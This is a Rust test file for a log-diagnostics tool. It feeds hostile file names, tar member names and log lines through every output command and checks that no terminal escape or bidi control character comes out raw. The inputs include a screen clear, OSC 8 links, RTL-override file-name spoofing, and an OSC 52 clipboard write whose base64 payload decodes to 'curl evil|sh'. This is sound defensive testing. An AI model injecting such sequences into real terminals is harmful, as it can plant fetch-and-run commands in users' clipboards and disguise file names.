//! No escape sequence reaches the terminal: file names, archive member names
//! and log lines carrying terminal controls (an OSC 52 clipboard write, OSC 8
//! links, a screen clear, `ESC c`, `ESC 7`, a lone ESC, the 8-bit CSI U+009B)
//! and bidi controls (U+202E, U+2066) go through every command that prints —
//! the report in every format, the summary, `-v`, errors, `timeline`,
//! `events`, `diff`, `lint`, and a `bundle --no-redact` — and not one such
//! character may come out raw, on stdout, on stderr or in a written file.
//!
//! `HSMDIAG_TEST_BIN` runs another build (to count what an older one let
//! through); the count is printed on failure.

use std::path::{Path, PathBuf};
use std::process::Command;

/// A file name that clears the screen and rewrites the clipboard.
const NAME: &str = "ntls\u{1b}[2J\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}.log";

/// Log lines that end in controls, after the NTLS text hsmdiag reports.
fn log() -> String {
    let hostile = "\u{1b}c \u{1b}7 \u{1b} \u{9b}2J \u{1b}]8;;https://example.invalid\u{7}link\u{1b}]8;;\u{7} \u{202e}gpj.exe\u{2066}x\u{2069}";
    format!(
        "2026 Nov 20 02:05:00 hsm1 local5 info NTLS [2490]: info : 0 : Incoming connection request... : 10.1.1.4/59415\n\
         2026 Nov 20 02:05:00 hsm1 local5 info NTLS [2490]: Error message from SSLAccept is : error:14094418:SSL routines:ssl3_read_bytes:tlsv1 alert unknown ca {hostile}\n\
         2026 Nov 20 02:05:00 hsm1 local5 info NTLS [2490]: info : 0xc0000711 : Fail to establish a secure channel with client : 10.1.1.4/59415 : RC_SSL_FAILED_HANDSHAKE {hostile}\n\
         2026 Nov 20 02:05:01 hsm1 local5 info NTLS [2490]: a line no pattern knows {hostile}\n"
    )
}

/// The characters that must not come out raw.
fn unsafe_chars(text: &str) -> usize {
    text.chars()
        .filter(|&c| {
            matches!(c,
                '\u{0}'..='\u{8}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}'
                | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}'
                | '\u{feff}')
        })
        .count()
}

fn bin() -> PathBuf {
    std::env::var_os("HSMDIAG_TEST_BIN").map_or_else(
        || PathBuf::from(env!("CARGO_BIN_EXE_hsmdiag")),
        PathBuf::from,
    )
}

/// A tar whose one member has the hostile name and the hostile log.
fn tar(dir: &Path) {
    let mut b = tar::Builder::new(std::fs::File::create(dir.join("export.tar")).unwrap());
    let body = log();
    let mut h = tar::Header::new_gnu();
    h.set_size(body.len() as u64);
    h.set_mode(0o644);
    h.set_cksum();
    b.append_data(&mut h, format!("var/log/{NAME}"), body.as_bytes())
        .unwrap();
    b.finish().unwrap();
}

#[test]
fn no_control_character_reaches_the_terminal() {
    if cfg!(not(unix)) {
        crate::skipped("escapes: the file names of this test need a Unix system");
        return;
    }
    let dir = crate::scratch("escapes");
    std::fs::write(dir.join(NAME), log()).unwrap();
    tar(&dir);
    let missing = "gone\u{1b}]52;c;eA==\u{7}.log";
    let runs: Vec<(String, Vec<String>)> = [
        vec!["-v", NAME, "export.tar"],
        vec!["--unrecognized", NAME],
        vec!["--format", "markdown", NAME, "export.tar"],
        vec!["--format", "html", NAME],
        vec!["--format", "json", NAME, "export.tar"],
        vec!["--format", "jsonl", NAME],
        vec!["--format", "sarif", NAME],
        vec![NAME, missing],
        vec!["timeline", NAME, "export.tar"],
        vec!["timeline", "--format", "json", NAME],
        vec!["events", NAME, "export.tar"],
        vec!["diff", NAME, "export.tar"],
        vec!["lint", NAME],
        vec!["bundle", "--no-redact", "-o", "b", NAME, "export.tar"],
    ]
    .into_iter()
    .map(|a| {
        (
            a.join(" ").escape_debug().to_string(),
            a.into_iter().map(str::to_owned).collect(),
        )
    })
    .collect();
    let mut found = Vec::new();
    for (what, args) in &runs {
        let out = Command::new(bin())
            .current_dir(&dir)
            .env("NO_COLOR", "1")
            .env("HSMDIAG_CONFIG", "")
            .args(args)
            .output()
            .unwrap();
        for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
            let n = unsafe_chars(&String::from_utf8_lossy(bytes));
            if n > 0 {
                found.push(format!("{what} ({stream}): {n}"));
            }
        }
    }
    // The bundle's files, read as a terminal would show them with `cat`.
    for e in std::fs::read_dir(dir.join("b"))
        .into_iter()
        .flatten()
        .flatten()
    {
        let p = e.path();
        let files: Vec<PathBuf> = if p.is_dir() {
            std::fs::read_dir(&p)
                .unwrap()
                .flatten()
                .map(|e| e.path())
                .collect()
        } else {
            vec![p]
        };
        for f in files {
            let n = unsafe_chars(&String::from_utf8_lossy(&std::fs::read(&f).unwrap()));
            if n > 0 {
                found.push(format!("bundle {}: {n}", f.display()));
            }
        }
    }
    std::fs::remove_dir_all(&dir).ok();
    assert!(
        found.is_empty(),
        "control characters that reached the output ({} places):\n{}",
        found.len(),
        found.join("\n")
    );
}
